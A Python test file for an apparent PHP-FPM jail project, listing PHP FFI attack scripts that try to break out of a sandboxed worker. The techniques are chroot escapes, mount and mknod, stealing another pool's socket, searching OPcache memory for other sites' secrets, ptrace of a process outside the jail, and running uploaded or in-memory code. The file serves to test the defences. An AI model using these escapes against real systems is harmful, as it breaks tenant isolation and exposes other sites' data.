# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile native code in a worker: what a hole in PHP itself would give. FFI stands for the hole; `$libc` is libc.

The control of what only root could do is root in the same chroot.
"""

from __future__ import annotations

from tests.attacks.cases import Script

ROOTS = frozenset({"chroot-twice", "mount"})
"""What is shown to work for root in a chroot."""

NATIVE = (
    Script("chroot-twice", "leave the chroot by a second chroot", "sss", """
        mkdir("$own/deep");
        return $child(function () use ($libc, $own, $tell) {
            if ($libc->chroot("$own/deep") === 0) {
                $libc->chdir(str_repeat('../', 30));
                $libc->chroot('.');
                $tell($libc, 'srv/outside/secret');
            }
        });
    """, "No capability is left; the control is root in the same chroot, who gets out."),
    Script("user-namespace", "get capabilities from a user namespace: unshare(2) and clone3(2)", "Oss", """
        return $child(function () use ($libc, $say) {
            if ($libc->unshare(0x10000000) === 0) {
                $say('a user namespace');
            }
        });
    """, "The kernel refuses it in a chroot; systemd's filter does in a dedicated site."),
    Script("mount", "mount a file system", "sss", """
        mkdir("$own/place");
        return $child(function () use ($libc, $own, $say) {
            if ($libc->mount('none', "$own/place", 'tmpfs', 0, '') === 0) {
                $say('mounted');
            }
        });
    """, "The control is root in the same chroot, who can."),
    Script("mknod", "make a device file", "sss", """
        return $libc->mknod("$own/memory", 0020666, 0x101) === 0 ? 'made' : '';
    """),
    Script("descriptors", "leave the chroot by a directory that a descriptor of the worker has open", "sss", """
        return $child(function () use ($libc, $tell) {
            for ($descriptor = 0; $descriptor < 1024; $descriptor++) {
                if ($libc->fchdir($descriptor) === 0) {
                    $tell($libc, str_repeat('../', 30) . 'srv/outside/secret');
                }
            }
        });
    """),
    Script("foreign-listener", "take another pool's requests: its socket among the worker's descriptors", "sss", """
        for ($descriptor = 3; $descriptor < 256; $descriptor++) {
            $address = $libc->new('char[128]');
            $length = $libc->new('int');
            $length->cdata = 128;
            if ($libc->getsockname($descriptor, $address, FFI::addr($length)) === 0 && $length->cdata > 3) {
                $found[] = FFI::string(FFI::addr($address[2]), $length->cdata - 2);
            }
        }
        return implode(' ', preg_grep('/neighbour|victim/', $found ?? []));
    """),
    Script("opcache-memory", "read other sites' code in the memory of OPcache", "OOs", """
        foreach (@file('/proc/self/maps') ?: [] as $line) {
            if (preg_match('#^(\\\\w+)-(\\\\w+) rw-s .* /dev/zero#', $line, $match)) {
                [$from, $to] = [hexdec($match[1]), hexdec($match[2])];
                $needle = 'SECRET-OF-' . strtoupper(basename($foreign[1]));
                if ($libc->memmem($from, $to - $from, $needle, strlen($needle)) !== null) {
                    return 'found';
                }
            }
        }
    """, "All pools of one master map one OPcache, and can write to it. Against holes in PHP only dedicated helps."),
    Script("ptrace", "take over a process of the same user outside of the jail", "OOs", """
        $done = $libc->ptrace(16, $outside, 0, 0) === 0;
        if ($done) {
            $libc->waitpid($outside, 0, 0x40000000);
            $libc->ptrace(17, $outside, 0, 0);
        }
        return $done ? 'attached' : '';
    """, "So nothing may run as a site's user outside: `fpmjail check` looks for it. Here one was started by hand."),
    Script("library", "map an uploaded library as code", "OOs", """
        copy("$payloads/library.so", "$own/mapped.so");
        putenv("PROOF=$own/mapped");
        $libc->dlopen("$own/mapped.so", 2);
        return is_file("$own/mapped") ? 'the library ran' : '';
    """, "Where systemd guards the site, what it can write is noexec."),
    Script("memory-program", "start a program that is in memory only: memfd_create(2)", "OOO", """
        return $child(function () use ($libc, $payloads) {
            $descriptor = $libc->memfd_create('program', 0);
            $content = file_get_contents("$payloads/program");
            $libc->write($descriptor, $content, strlen($content));
            $words = $libc->new('char *[2]');
            $libc->fexecve($descriptor, $words, $words);
        });
    """, "Native code can always load more of itself; the program has the same walls around it."),
)  # fmt: skip

SCRIPTS = {script.name: script for script in NATIVE}
